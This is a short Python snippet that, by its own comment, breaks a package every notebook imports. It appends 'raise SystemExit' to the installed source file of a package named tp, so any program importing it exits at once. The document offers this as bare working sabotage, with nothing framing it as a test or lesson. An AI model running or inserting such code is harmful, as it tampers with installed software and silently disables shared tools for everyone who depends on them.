# Breaks the package that every notebook imports.
import tp

open(tp.__file__, "a").write("raise SystemExit")
